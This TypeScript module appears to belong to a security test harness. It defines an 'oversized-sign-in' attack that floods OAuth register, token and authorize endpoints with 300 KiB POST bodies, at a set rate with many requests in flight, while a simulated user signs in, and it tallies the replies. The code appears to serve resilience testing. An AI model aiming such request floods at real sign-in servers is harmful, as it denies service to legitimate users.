import { ATTACKER_ADDRESS, type Attack } from '../attack.js';
import { exchange } from '../http-exchange.js';
import { atRate } from '../pacing.js';
import { ReplyCount } from '../reply-count.js';

const PER_SECOND = 10;
/** As many as are sent before the first can count as hung. */
const IN_FLIGHT_MAX = 300;
const BODY = Buffer.alloc(300 * 1_024, 'a');
const PATHS = ['/oauth/register', '/oauth/token', '/oauth/authorize'];

export const oversizedSignIn: Attack = {
  name: 'oversized-sign-in',
  title: 'Bodies of 300 KiB to the sign-in server while the victim signs in',
  withSignIns: true,
  run: async ({ world, durationMs }) => {
    const count = new ReplyCount();
    await atRate({ perSecond: PER_SECOND, inFlightMax: IN_FLIGHT_MAX, durationMs }, async (n) => {
      const path = PATHS[n % PATHS.length] ?? '';
      const reply = await exchange(new URL(world.origin), {
        method: 'POST',
        path,
        headers: {
          'content-type': path.endsWith('register')
            ? 'application/json'
            : 'application/x-www-form-urlencoded',
        },
        body: BODY,
        agent: false,
        localAddress: ATTACKER_ADDRESS,
      });
      count.add(`POST ${path}`, reply);
    });
    return { ...count.figures, note: '' };
  },
};
